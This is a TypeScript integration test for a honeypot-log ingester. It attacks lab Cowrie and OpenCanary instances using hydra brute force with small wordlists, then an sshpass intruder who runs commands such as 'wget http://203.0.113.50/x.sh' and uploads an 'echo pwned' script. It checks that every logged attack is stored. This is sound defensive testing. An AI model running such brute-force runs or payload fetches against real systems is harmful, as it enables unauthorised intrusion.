// The parsers against the real programs: Cowrie and OpenCanary (hack/sensors/versions.env) run on a lab
// address, attacked from network namespaces with documentation addresses by hydra (a small wordlist, parallel
// tasks) and by ssh under sshpass (a login, commands, an upload); then `blockfeed ingest` reads the log the
// program wrote. Every line that carries an attack must be stored as test/support/sensor-logs.ts says, with
// its source, port, service, username and command; housekeeping skipped, nothing rejected, and on an empty
// database nothing "already stored": hydra's parallel attempts in one millisecond are separate attacks.
//
// BLOCKFEED_SENSOR_LOGS_DIR=dir keeps a copy of each log there (how test/fixtures/sensor-logs/ was made).
import { copyFileSync, mkdirSync, readFileSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startLab, type Lab } from '../../../support/attack-lab.ts';
import { runCli } from '../../../support/cli.ts';
import { freshDatabase, type TestDatabase } from '../../../support/db.ts';
import { sensorVersions, startCowrie, startOpenCanary, type Honeypot } from '../../../support/honeypots.ts';
import { ProgramFailed, type Namespaces } from '../../../support/namespaces.ts';
import { expectCowrie, expectOpenCanary, sortedEvents, type ExpectedEvent, type Expectation } from '../../../support/sensor-logs.ts';

const SENSOR = '192.0.2.1';
/** The attackers: a brute forcer, a second one on other services, an intruder who logs in and works. */
const BRUTE = '198.51.100.7';
const SECOND = '203.0.113.9';
const INTRUDER = '198.51.100.23';
const USERS = ['admin', 'ubuntu', 'root'];
const PASSWORDS = ['123456', 'password', 'admin', 'root', 'qwerty'];
/** The one login Cowrie accepts: hydra finds it last, the intruder knows it. */
const LOGIN = { username: 'root', password: 'qwerty' };
const SSH_OPTIONS = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR', '-o', 'ConnectTimeout=10'];

/** The stored events of `sensor`, as ExpectedEvent. */
async function storedEvents(db: TestDatabase, sensor: string): Promise<ExpectedEvent[]> {
  const { rows } = await db.pool.query<{ ts: Date; src: string; dst_port: number | null; service: string | null; action: number; username: string | null; command: string | null }>(
    'select ts, host(src_ip) as src, dst_port, service, action, username, command from events where sensor = $1',
    [sensor],
  );
  return rows.map((r) => ({ ts: r.ts.getTime(), src: r.src, dstPort: r.dst_port, service: r.service, action: r.action, username: r.username, command: r.command }));
}

/** Groups of attack lines that differ in nothing a row stores: hydra's parallel tasks within a millisecond. */
function twins(events: readonly ExpectedEvent[]): number {
  const seen = new Map<string, number>();
  for (const e of events) {
    const key = JSON.stringify(e);
    seen.set(key, (seen.get(key) ?? 0) + 1);
  }
  return [...seen.values()].filter((n) => n > 1).length;
}

/**
 * Ingests `log` with the CLI into `db` twice: the first stores every attack line and nothing is "already
 * stored" or rejected; the second stores nothing new. Prints what the log held.
 */
async function ingestTwice(db: TestDatabase, log: string, format: 'cowrie' | 'opencanary', expected: Expectation, label: string): Promise<void> {
  const lines = readFileSync(log, 'utf8').split('\n').filter((l) => l.trim() !== '').length;
  const events = expected.events.length;
  const first = await runCli(['ingest', log, '--format', format], { DATABASE_URL: db.url, LOG_LEVEL: 'warn' });
  expect(first.stderr).toBe('');
  expect(first.stdout).toContain(
    `${events} new events stored from ${lines} lines (0 already stored, 0 rejected, ${expected.housekeeping} without an attack, 0 from non-global sources, not stored)`,
  );
  expect(first.code).toBe(0);
  const again = await runCli(['ingest', log, '--format', format], { DATABASE_URL: db.url, LOG_LEVEL: 'warn' });
  expect(again.stdout).toContain(`0 new events stored from ${lines} lines (${events} already stored, 0 rejected`);
  const byAction = [0, 1, 2].map((a) => expected.events.filter((e) => e.action === a).length);
  console.log(
    `${label}: ${lines} lines, ${events} attack events (${byAction[0]} connections, ${byAction[1]} logins, ${byAction[2]} commands),` +
      ` ${expected.housekeeping} housekeeping; ${twins(expected.events)} groups of attempts alike to the millisecond, all stored`,
  );
}

function keepCopy(log: string, name: string): void {
  const dir = process.env.BLOCKFEED_SENSOR_LOGS_DIR;
  if (!dir) return;
  mkdirSync(dir, { recursive: true });
  copyFileSync(log, path.join(dir, name));
}

describe('the parsers against the real honeypots', () => {
  let lab: Lab;
  let brute: Namespaces;
  let second: Namespaces;
  let intruder: Namespaces;
  let words: { dir: string; users: string; passwords: string; payload: string };
  let db: TestDatabase;
  const running: Honeypot[] = [];
  const versions = sensorVersions();

  beforeAll(async () => {
    if (process.getuid?.() !== 0) throw new Error('the real-honeypot test needs root: it makes network namespaces and runs the honeypots as an unprivileged user');
    lab = await startLab(SENSOR);
    [brute, second, intruder] = [await lab.attacker(BRUTE), await lab.attacker(SECOND), await lab.attacker(INTRUDER)];
    const dir = await mkdtemp(path.join(tmpdir(), 'blockfeed-attack-'));
    words = { dir, users: path.join(dir, 'users.txt'), passwords: path.join(dir, 'passwords.txt'), payload: path.join(dir, 'x.sh') };
    await writeFile(words.users, `${USERS.join('\n')}\n`);
    await writeFile(words.passwords, `${PASSWORDS.join('\n')}\n`);
    await writeFile(words.payload, '#!/bin/sh\necho pwned\n');
    db = await freshDatabase();
  });

  afterAll(async () => {
    await Promise.all(running.map((h) => h.stop()));
    await db?.drop();
    await lab?.stop();
    for (const dir of [...running.map((h) => h.dir), words?.dir]) if (dir) await rm(dir, { recursive: true, force: true });
  });

  /**
   * hydra from `ns` against `target` (service://host:port), 4 parallel tasks; -I: no restore file to ask about.
   * Two ways hydra exits non-zero on a loaded host, seen against OpenCanary, are not the attack failing:
   * - it completed every try, but a task had not reported back before the end ("1 of 1 target completed",
   *   then "1 final worker threads did not complete" and "1 target did not resolve or could not be
   *   connected"): the run is done;
   * - the first connection to a honeypot just started was dropped ("could not connect ... disconnected"),
   *   before any try: the run is repeated, up to twice, after a pause.
   * Every check reads what the honeypot logged, so a repeat only adds attempts.
   */
  const hydra = async (ns: Namespaces, target: string, logins: 'users' | 'none' = 'users') => {
    const attack = () => ns.run('hydra', [...(logins === 'users' ? ['-L', words.users] : []), '-P', words.passwords, '-t', '4', '-I', target], { timeoutMs: 180_000 });
    for (let repeats = 0; ; repeats++) {
      try {
        return await attack();
      } catch (err) {
        if (err instanceof ProgramFailed && /^1 of 1 target (?:successfully )?completed/m.test(err.stdout)) return err.stdout;
        if (repeats === 2 || !/could not connect to/.test((err as Error).message)) throw err;
        process.stderr.write(`hydra against ${target} is repeated: ${(err as Error).message}\n`);
        await new Promise((r) => setTimeout(r, 3000));
      }
    }
  };

  it(`stores what Cowrie ${versions.cowrie} logs of hydra and an intruder`, async () => {
    const cowrie = await startCowrie({ ns: lab.sensor, address: SENSOR, sshPort: 2222, telnetPort: 2223, sensorName: 'hp-lab-cowrie', login: LOGIN });
    running.push(cowrie);
    await Promise.all([hydra(brute, `ssh://${SENSOR}:2222`), hydra(second, `telnet://${SENSOR}:2223`)]);
    const ssh = (args: string[], input?: string) =>
      intruder.run('sshpass', ['-p', LOGIN.password, 'ssh', ...SSH_OPTIONS, '-p', '2222', `${LOGIN.username}@${SENSOR}`, ...args], { input, timeoutMs: 60_000 });
    // Cowrie's wget refuses addresses that are not global (it fakes a DNS failure), so ssh exits 1; the command
    // is logged all the same (checked below).
    await ssh(['uname -a; wget http://203.0.113.50/x.sh']).catch(() => undefined);
    await ssh(['-tt'], 'cat /proc/cpuinfo | grep name | wc -l\nexit\n');
    // scp's own protocol (-O): modern scp speaks SFTP, which Cowrie takes but then fails on setting the mode
    await intruder.run('sshpass', ['-p', LOGIN.password, 'scp', '-O', ...SSH_OPTIONS, '-P', '2222', words.payload, `${LOGIN.username}@${SENSOR}:/tmp/x.sh`], { timeoutMs: 60_000 });
    await cowrie.stop();
    keepCopy(cowrie.log, `cowrie-${versions.cowrie}.json`);

    const expected = expectCowrie(readFileSync(cowrie.log, 'utf8'));
    // What the attackers did, seen in the expectation: the rules and the attack agree.
    const from = (src: string) => expected.events.filter((e) => e.src === src);
    expect(new Set(from(BRUTE).map((e) => `${e.service}:${e.dstPort}`))).toEqual(new Set(['ssh:2222']));
    expect(new Set(from(BRUTE).filter((e) => e.action === 1).map((e) => e.username))).toEqual(new Set(USERS));
    expect(new Set(from(SECOND).map((e) => `${e.service}:${e.dstPort}`))).toEqual(new Set(['telnet:2223']));
    expect(from(SECOND).filter((e) => e.action === 1).length).toBeGreaterThan(0);
    expect(from(INTRUDER).filter((e) => e.action === 1)).toEqual(Array(3).fill(expect.objectContaining({ username: LOGIN.username })));
    expect(from(INTRUDER).filter((e) => e.action === 2).map((e) => e.command)).toEqual([
      'uname -a; wget http://203.0.113.50/x.sh',
      'cat /proc/cpuinfo | grep name | wc -l',
      'exit',
      'scp -t /tmp/x.sh',
      expect.stringMatching(/^upload \S*x\.sh$/),
    ]);

    await ingestTwice(db, cowrie.log, 'cowrie', expected, `cowrie ${versions.cowrie}`);
    expect(sortedEvents(await storedEvents(db, 'hp-lab-cowrie'))).toEqual(sortedEvents(expected.events));
  }, 300_000);

  it(`stores what OpenCanary ${versions.opencanary} logs of hydra on ssh, ftp, mysql and redis`, async () => {
    const canary = await startOpenCanary({ ns: lab.sensor, address: SENSOR, nodeId: 'canary-lab-01', ports: { ftp: 21, ssh: 22, mysql: 3306, redis: 6379 } });
    running.push(canary);
    await Promise.all([
      hydra(brute, `ssh://${SENSOR}:22`).then(() => hydra(brute, `ftp://${SENSOR}:21`)),
      hydra(second, `mysql://${SENSOR}:3306`).then(() => hydra(second, `redis://${SENSOR}:6379`, 'none')),
    ]);
    await canary.stop();
    keepCopy(canary.log, `opencanary-${versions.opencanary}.json`);

    const expected = expectOpenCanary(readFileSync(canary.log, 'utf8'));
    const ports = (src: string) => new Set(expected.events.filter((e) => e.src === src).map((e) => e.dstPort));
    expect(ports(BRUTE)).toEqual(new Set([22, 21]));
    expect(ports(SECOND)).toEqual(new Set([3306, 6379]));
    for (const port of [22, 21, 3306]) {
      const users = expected.events.filter((e) => e.dstPort === port && e.action === 1).map((e) => e.username);
      expect(new Set(users), `logins on ${port}`).toEqual(new Set(USERS));
    }
    // hydra's redis module tries passwords alone: logins without a username, their passwords not stored
    const redis = expected.events.filter((e) => e.dstPort === 6379 && e.action === 1);
    expect(redis.length).toBeGreaterThanOrEqual(PASSWORDS.length);
    expect(redis.every((e) => e.username === null && e.command === null)).toBe(true);

    await ingestTwice(db, canary.log, 'opencanary', expected, `opencanary ${versions.opencanary}`);
    expect(sortedEvents(await storedEvents(db, 'canary-lab-01'))).toEqual(sortedEvents(expected.events));
  }, 300_000);
});
